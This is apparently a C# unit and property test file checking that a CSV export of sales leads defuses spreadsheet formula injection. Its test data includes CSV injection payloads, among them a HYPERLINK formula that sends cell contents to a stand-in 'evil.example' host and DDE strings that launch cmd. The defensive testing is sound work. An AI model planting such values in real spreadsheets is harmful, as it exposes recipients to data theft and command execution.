using System;
using System.Collections.Generic;
using System.IO;
using System.Linq;
using System.Text;
using System.Text.RegularExpressions;
using System.Threading.Tasks;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using MarketplaceLeads.Reading.Csv;
using MarketplaceLeads.Tests.Support;

namespace MarketplaceLeads.Tests;

/// <summary>
/// CSV formula injection (OWASP "CSV Injection"): what <see cref="LeadCsv"/> writes never starts a cell with a formula
/// character unless the cell is a plain number, and with <see cref="LeadCsvWriteOptions.NeutralizeFormulas"/> off the
/// SDK's reader returns exactly what was written.
/// </summary>
public sealed partial class CsvWritingTests
{
    private static readonly LeadCsvWriteOptions Raw = new() { NeutralizeFormulas = false };

    private static readonly LeadReader Reader = new(new LeadReaderOptions { ErrorPolicy = LeadReadErrorPolicy.SkipAndReport, MaxFieldLength = 1 << 20, MaxRecordBytes = 1 << 22 });

    private static readonly char[] Interesting = "=+-@\t\r\n'\",; .,0123456789aZé東\u00A0{(".ToCharArray();

    [Theory]
    [InlineData("=1+2\";=1+2", "\"'=1+2\"\";=1+2\"")] // OWASP's two examples, verbatim
    [InlineData("=1+2'\" ;,=1+2", "\"'=1+2'\"\" ;,=1+2\"")]
    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Click\"\")\"")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0", "\"'@SUM(1+1)*cmd|' /C calc'!A0\"")]
    [InlineData("+1 (425) 555-0100", "\"'+1 (425) 555-0100\"")]
    [InlineData("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\"")]
    [InlineData("\t=1+2", "\"'\t=1+2\"")]
    [InlineData("\r=1+2", "\"'\r=1+2\"")]
    [InlineData("\n=1+2", "\"'\n=1+2\"")]
    [InlineData("-", "\"'-\"")]
    [InlineData("-1.", "\"'-1.\"")]
    [InlineData("-1.2.3", "\"'-1.2.3\"")]
    [InlineData("-1e5", "\"'-1e5\"")]
    [InlineData("+\u0661\u0662", "\"'+\u0661\u0662\"")] // Arabic-Indic digits are not a plain (ASCII) number
    public void FormatField_ValueASpreadsheetWouldRun_IsQuotedWithALeadingApostrophe(string value, string expected)
    {
        Assert.Equal(expected, LeadCsv.FormatField(value));
        Assert.Equal(expected, LeadCsv.FormatField(value, new LeadCsvWriteOptions()));
    }

    [Theory]
    [InlineData("-5")]
    [InlineData("+14255550100")]
    [InlineData("-1.5")]
    [InlineData("-.5")]
    [InlineData("42")]
    [InlineData("a=1")]
    [InlineData("ana@fabrikam.example")]
    [InlineData("'=already text")]
    public void FormatField_PlainNumberOrTextNotStartingAFormula_IsWrittenAsItIs(string value)
    {
        Assert.Equal(value, LeadCsv.FormatField(value));
    }

    [Fact]
    public void FormatField_NullIsAnEmptyField_EmptyStringIsQuoted_CommaIsQuoted()
    {
        Assert.Equal(string.Empty, LeadCsv.FormatField(null));
        Assert.Equal("\"\"", LeadCsv.FormatField(string.Empty));
        Assert.Equal("\"-1,5\"", LeadCsv.FormatField("-1,5"));
        Assert.Equal("\"a, b\"", LeadCsv.FormatField("a, b"));
    }

    [Fact]
    public void FormatField_OptOut_WritesAFormulaAsItIs_QuotedOnlyAsRfc4180Needs()
    {
        Assert.Equal("=SUM(A1:A2)", LeadCsv.FormatField("=SUM(A1:A2)", Raw));
        Assert.Equal("\"=1+2\"\";=1+2\"", LeadCsv.FormatField("=1+2\";=1+2", Raw));
        Assert.Equal("\"\t\"", LeadCsv.FormatField("\t", Raw)); // a lone tab is quoted, or a reader would skip the line as blank
    }

    [Property(MaxTest = 1000)]
    public Property WrittenCell_NeverStartsWithAFormulaCharacter_UnlessAPlainNumber_AndKeepsTheValueAfterTheApostrophe() =>
        Prop.ForAll(Values(), value =>
        {
            var cell = ReadBack(LeadCsv.FormatField(value));

            Assert.True(cell == value || cell == "'" + value, $"'{value}' was read back as '{cell}'");
            Assert.False(cell.Length > 0 && "=+-@\t\r\n".Contains(cell[0], StringComparison.Ordinal) && !PlainNumber().IsMatch(cell), $"'{value}' was written as a cell starting with a formula character: '{cell}'");
        });

    [Property(MaxTest = 1000)]
    public Property OptOut_TheReaderReturnsExactlyTheWrittenValue() =>
        Prop.ForAll(Values(), value => Assert.Equal(value, ReadBack(LeadCsv.FormatField(value, Raw))));

    [Property(Arbitrary = [typeof(LeadGenerators)], MaxTest = 300)]
    public void FormatRecord_Default_NoCellOfAnyLeadStartsWithAFormulaCharacter_UnlessAPlainNumber(Lead lead)
    {
        var fields = new List<string?>();
        Assert.True(CsvRecord.TrySplit(Encoding.UTF8.GetBytes(LeadCsv.FormatRecord(lead)), (byte)',', fields, out var reason, out _), reason);

        Assert.Equal(LeadCsv.Header.Split(',').Length, fields.Count);
        Assert.All(fields, cell => Assert.False(
            cell is { Length: > 0 } && "=+-@\t\r\n".Contains(cell[0], StringComparison.Ordinal) && !PlainNumber().IsMatch(cell),
            $"a cell starts with a formula character: '{cell}'"));
    }

    [Fact]
    public async Task WriteAsync_Default_FormulasInCustomerFields_AreReadBackWithTheApostrophe_PlainNumbersUnchanged()
    {
        var lead = new Lead
        {
            Id = LeadId.FromContent(null, null, null, null, new CustomerInfo()),
            ReceivedAt = new DateTimeOffset(2026, 11, 20, 10, 0, 0, TimeSpan.Zero),
            Description = "=HYPERLINK(\"https://evil.example\",\"Click\")",
            Customer = new CustomerInfo { FirstName = "@SUM(1+1)", LastName = "-2+3", Company = "+1 (425) 555-0100", Phone = "+14255550100", Title = "-5" },
        };
        using var neutralized = new MemoryStream();
        using var raw = new MemoryStream();

        await LeadCsv.WriteAsync(neutralized, [lead]);
        await LeadCsv.WriteAsync(raw, [lead], Raw);

        var read = Assert.Single(await Reader.ReadCsvAsync(new MemoryStream(neutralized.ToArray())).ToListAsync()).Lead!;
        Assert.Equal("'=HYPERLINK(\"https://evil.example\",\"Click\")", read.Description);
        Assert.Equal("'@SUM(1+1)", read.Customer.FirstName);
        Assert.Equal("'-2+3", read.Customer.LastName);
        Assert.Equal("'+1 (425) 555-0100", read.Customer.Company);
        Assert.Equal("+14255550100", read.Customer.Phone);
        Assert.Equal("-5", read.Customer.Title);
        var exact = Assert.Single(await Reader.ReadCsvAsync(new MemoryStream(raw.ToArray())).ToListAsync()).Lead!;
        LeadAssert.SameContent(lead with { RawPayload = exact.RawPayload }, exact);
    }

    /// <summary>Strings rich in formula characters, quotes, separators, line breaks, digits and non-ASCII (no lone surrogates: the CSV is UTF-8).</summary>
    private static Arbitrary<string> Values() =>
        Gen.Frequency(
                (3, Gen.Elements(Interesting)),
                (1, Gen.Choose(0x20, 0xD7FF).Select(static c => (char)c)))
            .ArrayOf()
            .Select(static chars => new string(chars))
            .ToArbitrary();

    /// <summary>Writes a one-column CSV holding <paramref name="field"/> and reads the cell back with the SDK's reader.</summary>
    private static string ReadBack(string field)
    {
        var csv = Encoding.UTF8.GetBytes("description\n" + field + "\n");
        var result = Assert.Single(Reader.ReadCsvAsync(new MemoryStream(csv)).ToBlockingEnumerable());
        Assert.True(result.IsSuccess, result.Error?.ToString());
        return result.Lead!.Description ?? string.Empty;
    }

    /// <summary>The test's own definition of a plain number: optional sign, ASCII digits, one optional decimal separator.</summary>
    [GeneratedRegex("^[+-]?([0-9]+([.,][0-9]+)?|[.,][0-9]+)$")]
    private static partial Regex PlainNumber();
}
